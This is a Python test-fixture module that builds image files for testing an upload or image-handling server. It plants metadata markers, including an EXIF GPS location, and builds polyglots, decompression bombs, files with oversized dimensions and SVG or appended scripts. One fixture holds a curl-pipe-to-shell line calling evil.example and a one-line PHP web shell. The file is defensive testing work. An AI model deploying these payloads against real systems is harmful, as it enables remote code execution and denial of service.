"""Hostile and ordinary image files, made by the tests (nothing is downloaded or checked in).

Each maker returns bytes. Markers (`zq...qz`) are planted in metadata and payloads so a test can
search the stored file for them.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()

EXIF_MARKER = "zqexifmarkerqz"
XMP_MARKER = "zqxmpmarkerqz"
COMMENT_MARKER = "zqcommentmarkerqz"
PAYLOAD_MARKER = "zqpayloadmarkerqz"
TEXT_CHUNK_MARKER = "zqtextchunkmarkerqz"
MARKERS = (EXIF_MARKER, XMP_MARKER, COMMENT_MARKER, PAYLOAD_MARKER, TEXT_CHUNK_MARKER)

# Ways metadata shows up in files, whatever its content.
METADATA_SIGNATURES = (
    b"Exif\x00\x00",
    b"http://ns.adobe.com/xap/1.0/",
    b"<x:xmpmeta",
    b"PK\x03\x04",
)

GPS_IFD = 0x8825


def _picture(size=(64, 48)) -> Image.Image:
    picture = Image.new("RGB", size, (230, 230, 230))
    for x in range(0, size[0], 8):
        for y in range(size[1]):
            picture.putpixel((x, y), (20, 90, 200))
    return picture


def jpeg(size=(64, 48), **save_options) -> bytes:
    out = io.BytesIO()
    _picture(size).save(out, format="JPEG", quality=90, **save_options)
    return out.getvalue()


def png(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    _picture(size).save(out, format="PNG")
    return out.getvalue()


def jpeg_with_gps_exif() -> bytes:
    """A phone photo: camera, a description, the GPS position of the school."""
    exif = Image.Exif()
    exif[0x010E] = EXIF_MARKER  # ImageDescription
    exif[0x013B] = "Hana Host"  # Artist
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = 6  # Orientation: rotated, so the server must turn the pixels
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (41.0, 52.0, 30.0)
    gps[3] = "W"
    gps[4] = (87.0, 37.0, 12.0)
    out = io.BytesIO()
    _picture().save(out, format="JPEG", quality=90, exif=exif.tobytes())
    return out.getvalue()


def jpeg_with_comment_and_xmp() -> bytes:
    """A JPEG with a COM segment and an XMP APP1 segment."""
    xmp = (
        b"http://ns.adobe.com/xap/1.0/\x00"
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description '
        b'exif:GPSLatitude="41,52.5N" dc:description="' + XMP_MARKER.encode() + b'"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    data = jpeg(comment=COMMENT_MARKER.encode())
    app1 = b"\xff\xe1" + struct.pack(">H", len(xmp) + 2) + xmp
    return data[:2] + app1 + data[2:]


def heic_with_xmp() -> bytes:
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
        b'22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
        b'exif:GPSLatitude="41,52.5N" exif:UserComment="' + XMP_MARKER.encode() + b'"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    out = io.BytesIO()
    _picture().save(out, format="HEIF", xmp=xmp, quality=60)
    return out.getvalue()


def jpeg_zip_polyglot() -> bytes:
    """A valid JPEG followed by a ZIP archive (readable as either)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.txt", PAYLOAD_MARKER)
        zipped.writestr("run.sh", "#!/bin/sh\necho owned\n")
    return jpeg() + archive.getvalue()


def jpeg_with_appended_script() -> bytes:
    return jpeg() + b"<script>alert(1)</script>" + PAYLOAD_MARKER.encode()


def png_with_text_chunk() -> bytes:
    data = png()
    chunk_data = b"Comment\x00" + TEXT_CHUNK_MARKER.encode()
    chunk = (
        struct.pack(">I", len(chunk_data))
        + b"tEXt"
        + chunk_data
        + struct.pack(">I", zlib.crc32(b"tEXt" + chunk_data) & 0xFFFFFFFF)
    )
    # Right after IHDR (8-byte signature + 25-byte IHDR chunk).
    return data[:33] + chunk + data[33:]


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)
    )


def png_decompression_bomb(side: int = 20_000) -> bytes:
    """A 1-bit grayscale PNG of side x side pixels (400 megapixels by default) whose pixels
    compress to a few tens of kilobytes: decoding it would need hundreds of megabytes."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    chunks = [compressor.compress(row * 1000) for _ in range(side // 1000)]
    chunks.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", b"".join(chunks))
        + _png_chunk(b"IEND", b"")
    )


def png_huge_dimensions() -> bytes:
    """An IHDR claiming 100,000 x 100,000 pixels and almost no data."""
    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def jpeg_huge_dimensions() -> bytes:
    """A small JPEG whose frame header (SOF0) claims 65,000 x 65,000 pixels."""
    data = bytearray(jpeg())
    index = data.find(b"\xff\xc0")
    assert index > 0
    struct.pack_into(">HH", data, index + 5, 65_000, 65_000)
    return bytes(data)


def gif_with_huge_frame() -> bytes:
    """A GIF whose screen is 1 x 1 but whose frame claims 65,535 x 65,535 pixels."""
    header = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    descriptor = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0)
    image_data = b"\x02\x02\x44\x01\x00"  # LZW minimum code size 2, one tiny sub-block
    return header + descriptor + image_data + b"\x3b"


def truncated_jpeg() -> bytes:
    data = jpeg(size=(256, 256))
    return data[: len(data) // 2]


def script_named_jpg() -> bytes:
    return b"#!/bin/sh\ncurl http://evil.example/x | sh\n<?php system($_GET['c']); ?>\n"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def empty() -> bytes:
    return b""
